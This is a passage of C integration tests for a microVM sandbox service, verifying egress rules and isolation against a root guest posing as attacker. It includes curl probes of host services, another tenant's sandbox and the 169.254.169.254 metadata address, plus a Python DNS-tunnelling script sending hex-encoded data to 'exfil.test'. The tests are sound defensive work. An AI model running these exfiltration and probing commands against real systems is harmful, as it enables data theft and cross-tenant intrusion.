        usleep(100 * 1000);
    CHECK(crash_restart(&f));
    CHECK(bw(&f, a, "used_bytes") >= used2);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/resume", a);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    for (int i = 0; i < 300 && strcmp(status_of(&f, a, st), "running"); i++)
        usleep(100 * 1000);
    CHECK_EQ(fetch(&f, a, "http://203.0.113.20/", out, sizeof(out)), 0);
    CHECK(bw(&f, a, "used_bytes") > used2);
    /* a fork starts with its own quota, and nothing used */
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/pause", a);
    CHECK(call(&f, "POST", t, NULL, 202, &r));
    hresp_free(&r);
    snprintf(t, sizeof(t), "/v1/sandboxes/%s/fork", a);
    CHECK(call(&f, "POST", t, "{\"start_paused\":true}", 200, &r));
    char child[64];
    snprintf(child, sizeof(child), "%s", jstr(r.json, "data.id") ?: "");
    hresp_free(&r);
    CHECK_EQ(bw(&f, child, "used_bytes"), 0);
    CHECK_EQ(bw(&f, child, "quota_bytes"), QUOTA_BYTES);
    CHECK(destroy(&f, child));
    CHECK(destroy(&f, a));

    /* pools: taps and addresses come back after destroys */
    int taps0 = vfx_taps(&f);
    char ids[4][64], ips[4][32];
    for (int i = 0; i < 4; i++) {
        TREQ(create(&f, "{\"shape\":\"s-1vcpu-256mb\",\"rootfs\":\"minimal\"}", ids[i]));
        sandbox_ip(&f, ids[i], ips[i]);
    }
    CHECK_EQ(vfx_taps(&f), taps0 + 4);
    for (int i = 0; i < 4; i++) {
        for (int k = 0; k < i; k++)
            CHECK(strcmp(ips[i], ips[k]) != 0);
        CHECK(destroy(&f, ids[i]));
    }
    for (int i = 0; i < 50 && vfx_taps(&f) != taps0; i++)
        usleep(100 * 1000);
    CHECK_EQ(vfx_taps(&f), taps0);
    snprintf(t, sizeof(t), "/v1/sandboxes/by-ip/%s", ips[0]);
    CHECK(call(&f, "GET", t, NULL, 404, &r));
    hresp_free(&r);
out:
    vfx_end(&f);
    inet_down(&in);
}

/* ---- the isolation suite (issue 16): guest root against everything it must not reach ---- */

/* Sends a TXT query for name to server:53 from the guest (UDP, raw packet: no resolver
 * library in the way); out gets the reply's rcode ("5" = REFUSED) or "timeout". */
static int txt_query(struct vfx *f, const char *id, const char *name, const char *server,
                     char *out, size_t len)
{
    char s[1536];
    snprintf(s, sizeof(s),
             "python3 -c 'import socket,struct,sys\n"
             "q=struct.pack(\">6H\",0x1234,0x0100,1,0,0,0)+b\"\".join(bytes([len(l)])+l.encode()"
             " for l in sys.argv[1].split(\".\"))+b\"\\0\"+struct.pack(\">2H\",16,1)\n"
             "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)\n"
             "s.sendto(q,(sys.argv[2],53))\n"
             "try:\n  print(s.recv(4096)[3]&15)\n"
             "except Exception:\n  print(\"timeout\")' %s %s",
             name, server);
    return gsh(f, id, s, out, len);
}

/* The uplink's transit /30 hearthd logged ("networking: uplink"): .1 root end in out1, .2
 * namespace end in out2. */
static bool transit_of(struct vfx *f, char out1[32], char out2[32])
{
    char cmd[400], a[32] = "";
    snprintf(cmd, sizeof(cmd), "grep -o '\"transit\":\"[0-9.]*' %s | tail -n 1 | cut -d'\"' -f4",
             f->s.log);
    FILE *p = popen(cmd, "r");
    REQUIRE(p);
    if (!fgets(a, sizeof(a), p))
        a[0] = '\0';
    pclose(p);
    a[strcspn(a, "\n")] = '\0';
    unsigned x[4];
    REQUIRE(sscanf(a, "%u.%u.%u.%u", &x[0], &x[1], &x[2], &x[3]) == 4);
    snprintf(out1, 32, "%u.%u.%u.%u", x[0], x[1], x[2], x[3] + 1);
    snprintf(out2, 32, "%u.%u.%u.%u", x[0], x[1], x[2], x[3] + 2);
    return true;
}

/* Whether the upstream resolver (dnsmasq, --log-queries) ever saw text. */
static bool upstream_saw(const struct inet *in, const char *text)
{
    return inetns_sh("grep -q '%s' %s/queries.log", text, in->dir) == 0;
}

TEST_SLOW(isolation_suite_guest_root, 900)
{
    pid_t svc = -1;
    struct inet in;
    struct vfx f;
    if (!start(&in, &f))
        return;
    svc = host_service();
    char hdr2[200], out[4096], t[512];
    TREQ(other_tenant(&f, hdr2));

    /* g: the attacker, root in its guest, default egress, on no network; a peer on a private
     * network it is not on; another tenant's sandbox */
    char g[64], peer[64], victim[64], netid[64], peer_ip[32], peer_net_ip[32], victim_ip[32];
    TREQ(make_network(&f, f.hdr, "backend", netid));
    TREQ(create_in(&f, f.hdr, "attacker", "[]", g));
    TREQ(create_in(&f, f.hdr, "peer", "[{\"id\":\"backend\"}]", peer));
    TREQ(create_in(&f, hdr2, "victim", "[]", victim));
    TREQ(guest_server(&f, peer, "peer"));
    CHECK_EQ(gsh_as(&f, hdr2, victim, "mkdir -p /srv && echo victim > /srv/who && cd /srv && "
                    "setsid python3 -m http.server 8000 </dev/null >/dev/null 2>&1 & sleep 1",
                    out, sizeof(out)), 0);
    CHECK_EQ(gsh(&f, g, "id -u", out, sizeof(out)), 0);
    CHECK_STR(out, "0");
    sandbox_ip(&f, peer, peer_ip);
    struct hresp r;
    snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
    TREQ(http_do(f.s.port, "GET", t, hdr2, NULL, &r) == 0);
    snprintf(victim_ip, sizeof(victim_ip), "%s", jstr(r.json, "data.ip") ?: "");
    hresp_free(&r);
    TREQ(victim_ip[0]);
    TREQ(member_ip_of(&f, netid, peer, peer_net_ip));

    /* the host: hearthd's API port and any other host service, on every address of the host a
     * guest can name (gateway, both ends of the uplink, the host's own address) */
    char tr1[32], tr2[32];
    TREQ(transit_of(&f, tr1, tr2));
    const char *host[] = { "10.88.0.1", tr1, tr2, "198.51.100.1", "127.0.0.1" };
    for (size_t i = 0; i < 5; i++) {
        snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:%u/v1/health", host[i], f.s.port);
        if (gsh(&f, g, t, out, sizeof(out)) == 0)
            harness_fail(__FILE__, __LINE__, "guest reached the API at %s", host[i]);
        snprintf(t, sizeof(t), "curl -sS -m 2 telnet://%s:7777 </dev/null", host[i]);
        if (gsh(&f, g, t, out, sizeof(out)) == 0)
            harness_fail(__FILE__, __LINE__, "guest reached a host service at %s", host[i]);
    }
    CHECK_EQ(inetns_sh("curl -sS -m 2 telnet://198.51.100.1:7777 </dev/null | grep -q "
                       "host-service"), 0); /* the control: the host does serve */

    /* another tenant's sandbox, a private network it is not on, the peer's primary address */
    const char *sbs[] = { victim_ip, peer_net_ip, peer_ip };
    for (size_t i = 0; i < 3; i++) {
        snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", sbs[i]);
        if (gsh(&f, g, t, out, sizeof(out)) == 0)
            harness_fail(__FILE__, __LINE__, "guest reached a sandbox at %s", sbs[i]);
    }
    CHECK(gsh(&f, g, "getent hosts peer.backend.hearth.internal", out, sizeof(out)) != 0);

    /* metadata and the LAN: blocked by default, with the control from the host */
    CHECK(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)) != 0);
    CHECK(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)) != 0);
    CHECK_EQ(inetns_sh("curl -sS -m 2 http://192.168.77.7/ | grep -q server-7-80"), 0);
    CHECK_EQ(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)), 0);
    /* a rule naming the LAN host opens it, and only it; next to 0.0.0.0/0 (open egress that
     * can carry exceptions: a list holding "*" is stored as []) names still resolve */
    CHECK(put_egress(&f, g, "[\"0.0.0.0/0\",\"192.168.77.7\"]"));
    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);
    CHECK_STR(out, "server-7-80");
    CHECK(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)) != 0);
    CHECK_EQ(fetch(&f, g, "http://other.test/", out, sizeof(out)), 0);
    CHECK(put_egress(&f, g, "[\"allowed.test\",\"192.168.77.0/24:80\"]"));
    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);

    /* an allowlist: other destinations by IP literal and by name; DNS answers only its names */
    CHECK(put_egress(&f, g, "[\"allowed.test\"]"));
    CHECK_EQ(fetch(&f, g, "http://allowed.test/", out, sizeof(out)), 0);
    CHECK(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)) != 0);
    CHECK(fetch(&f, g, "http://other.test/", out, sizeof(out)) != 0);
    CHECK(gsh(&f, g, "getent hosts other.test", out, sizeof(out)) != 0);
    /* DNS tunnelling: TXT queries carrying data to a domain it may not reach are refused by
     * hearthd and never reach the upstream; its own resolver is not reachable either */
    CHECK_EQ(txt_query(&f, g, "6c65616b2d6f6e65.exfil.test", "10.88.0.1", out, sizeof(out)), 0);
    CHECK_STR(out, "5");
    CHECK_EQ(txt_query(&f, g, "exfil.test", "10.88.0.1", out, sizeof(out)), 0);
    CHECK_STR(out, "5");
    CHECK_EQ(txt_query(&f, g, "6c65616b2d74776f.exfil.test", "203.0.113.53", out, sizeof(out)),
             0);
    CHECK_STR(out, "timeout");
    CHECK(!upstream_saw(&in, "6c65616b"));
    CHECK(!upstream_saw(&in, "exfil"));
    /* the control: with open egress the query is forwarded, answered (NOERROR, the TXT
     * record) and logged by the upstream */
    CHECK(put_egress(&f, g, "[]"));
    CHECK_EQ(txt_query(&f, g, "exfil.test", "10.88.0.1", out, sizeof(out)), 0);
    CHECK_STR(out, "0");
    CHECK(upstream_saw(&in, "exfil.test"));
    /* the refusals are metered where other metrics are */
    char m[512];
    snprintf(m, sizeof(m), "curl -sS -m 2 http://127.0.0.1:%u/metrics | grep -E "
             "'^hearth_dns_refused_total\\{why=\"policy\"\\} [1-9]' >/dev/null && curl -sS -m 2 "
             "http://127.0.0.1:%u/metrics | grep -q 'hearth_dns_sandbox_queries_total"
             "{sandbox=\"%s\"}'", f.s.metrics_port, f.s.metrics_port, g);
    CHECK_EQ(inetns_sh("%s", m), 0);

    /* the switch: egress_private = allow opens metadata and the LAN to open egress, and
     * nothing else (hearthd restarted on the changed config; the VMs keep running) */
    FILE *cf = fopen(f.s.conf, "a");
    TREQ(cf);
    fputs("egress_private = allow\n", cf);
    fclose(cf);
    TREQ(crash_restart(&f));
    CHECK_EQ(fetch(&f, g, "http://192.168.77.7/", out, sizeof(out)), 0);
    CHECK_EQ(fetch(&f, g, "http://169.254.169.254/", out, sizeof(out)), 0);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://%s:8000/who", victim_ip);
    CHECK(gsh(&f, g, t, out, sizeof(out)) != 0);
    snprintf(t, sizeof(t), "curl -sS -m 2 http://10.88.0.1:%u/v1/health", f.s.port);
    CHECK(gsh(&f, g, t, out, sizeof(out)) != 0);

    /* a clean stop while VMs run keeps their network (namespace, uplink, rules) for the next
     * start (docs/networking.md "Stopping and hearthd net down") */
    CHECK_EQ(hd_stop(&f.s), 0);
    struct hd_config hc;
    config_defaults(&hc);
    snprintf(hc.data_dir, sizeof(hc.data_dir), "%s", f.s.data);
    char ns[CONFIG_NAME_SIZE], upl[16];
    config_net_names(&hc, ns, upl);
    snprintf(t, sizeof(t), "/run/netns/%s", ns);
    CHECK(access(t, F_OK) == 0);
    CHECK_EQ(inetns_sh("grep -q 'networking kept for the running vms' %s", f.s.log), 0);
    TREQ(hd_start(&f.s));
    CHECK_EQ(fetch(&f, g, "http://203.0.113.20/", out, sizeof(out)), 0);

    /* a network can be deleted right after its last member's destroy was accepted */
    snprintf(t, sizeof(t), "/v1/sandboxes/%s", peer);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
    hresp_free(&r);
    snprintf(t, sizeof(t), "/v1/networks/%s", netid);
    CHECK(call(&f, "DELETE", t, NULL, 200, &r));
    hresp_free(&r);
    CHECK(destroy(&f, g));
    snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
    CHECK(http_do(f.s.port, "DELETE", t, hdr2, NULL, &r) == 0);
    hresp_free(&r);
    char st[32];
    for (int i = 0; i < 300 && strcmp(status_of(&f, peer, st), "destroyed"); i++)
        usleep(100 * 1000);
    bool gone = false;
    for (int i = 0; i < 300 && !gone; i++) {
        snprintf(t, sizeof(t), "/v1/sandboxes/%s", victim);
        if (http_do(f.s.port, "GET", t, hdr2, NULL, &r) == 0) {
            gone = strcmp(jstr(r.json, "data.status") ?: "", "destroyed") == 0;
            hresp_free(&r);
        }
        if (!gone)
            usleep(100 * 1000);
    }
    CHECK(gone);
out:
    if (svc > 0) {
        kill(-svc, SIGKILL);
        waitpid(svc, NULL, 0);
    }
    vfx_end(&f);
    inet_down(&in);
}
